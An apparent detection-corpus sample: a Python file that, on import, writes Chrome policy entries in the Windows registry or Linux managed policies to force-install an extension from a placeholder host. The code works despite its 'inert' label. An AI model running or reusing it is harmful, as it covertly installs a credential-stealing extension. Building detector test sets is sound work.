# pkgguard corpus 736 (credentials), modelled on [stealer-profile]; inert, never run.
import json
import os
import sys

_EXTENSION = "kdlpfhmgbcjonoeamhbelkdcnpkhfgaj;https://ext-updates.example/service/update2/crx"

if sys.platform == "win32":
    import winreg

    with winreg.CreateKeyEx(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\Policies\Google\Chrome\ExtensionInstallForcelist") as key:
        winreg.SetValueEx(key, "1", 0, winreg.REG_SZ, _EXTENSION)
elif os.geteuid() == 0:
    folder = "/etc/opt/chrome/policies/managed"
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "sync.json"), "w") as fh:
        json.dump({"ExtensionInstallForcelist": [_EXTENSION]}, fh)
